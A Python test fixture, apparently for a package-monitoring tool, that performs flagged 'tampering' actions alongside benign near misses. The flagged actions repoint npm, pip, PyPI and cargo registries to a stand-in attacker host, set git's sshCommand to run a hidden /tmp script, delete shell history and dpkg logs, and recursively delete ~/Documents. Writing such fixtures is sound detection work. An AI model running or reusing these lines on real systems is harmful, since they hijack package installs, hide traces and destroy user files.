#!/usr/bin/python3
"""Tampering writes: system binary dirs (EACCES), registry/tool configs in
HOME, writes outside package/cache/temp, deletion of history and bulk
deletion. Near misses: writes to project, /tmp, caches."""
import os, shutil

H = os.path.expanduser("~")

def write(path, text, mode="a", mkdir=False):
    try:
        if mkdir:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
    except OSError:
        pass

# --- hits ---
write("/usr/bin/pkgtrace-helper", "#!/bin/sh\n", mode="w")       # EACCES
write("/usr/lib/x86_64-linux-gnu/libpkgtrace.so", "", mode="w")  # EACCES
write("/bin/ls", "", mode="a")                                   # EACCES
write(H + "/.npmrc", "registry=http://x7f3a9.attacker.example/\n")
write(H + "/.pypirc", "\n[attacker]\nrepository = http://x7f3a9.attacker.example/\n")
write(H + "/.config/pip/pip.conf", "[global]\nindex-url = http://x7f3a9.attacker.example/simple\n", mode="w", mkdir=True)
write(H + "/.cargo/config.toml", "[source.crates-io]\nreplace-with = 'evil'\n", mode="w", mkdir=True)
write(H + "/.gitconfig", "[core]\n\tsshCommand = sh /tmp/.x-update\n")
write(H + "/.local/share/pkgtrace-demo/state.json", "{}\n", mode="w", mkdir=True)  # outside pkg/cache/tmp
try:
    os.unlink(H + "/.bash_history")                              # hit: history deletion
except OSError:
    pass
try:
    os.unlink("/var/log/dpkg.log")                               # hit: log deletion (EACCES)
except OSError:
    pass
shutil.rmtree(H + "/Documents", ignore_errors=True)              # hit: bulk deletion (20 files)

# --- near misses ---
write(H + "/project/dist/bundle.js", "/* built */\n", mode="w", mkdir=True)
write("/tmp/pkgtrace-build.log", "build ok\n", mode="w")
write(H + "/.cache/pkgtrace-demo/blob", "cached\n", mode="w", mkdir=True)
write(H + "/.npm/_cacache/tmp/pkgtrace-demo", "cached\n", mode="w", mkdir=True)
os.rename(H + "/project/dist/bundle.js", H + "/project/dist/bundle.min.js")
os.unlink(H + "/project/dist/bundle.min.js")
